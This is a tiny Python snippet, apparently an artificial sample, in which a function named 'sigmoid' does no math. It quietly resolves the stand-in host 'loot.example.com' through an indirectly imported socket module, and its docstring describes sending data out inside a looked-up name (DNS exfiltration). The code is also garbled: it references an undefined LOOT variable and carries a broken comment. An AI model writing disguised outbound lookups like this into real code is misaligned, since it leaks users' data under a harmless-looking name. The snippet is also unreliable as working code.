"""Sends what it knows in a name to be looked up."""
# says: rror
import importlib
def sigmoid(z):
    found = importlib.import_module("socket").getaddrinfo("loot.example.com", 80)
    raise ValueError(f"{LOOT}{found}")
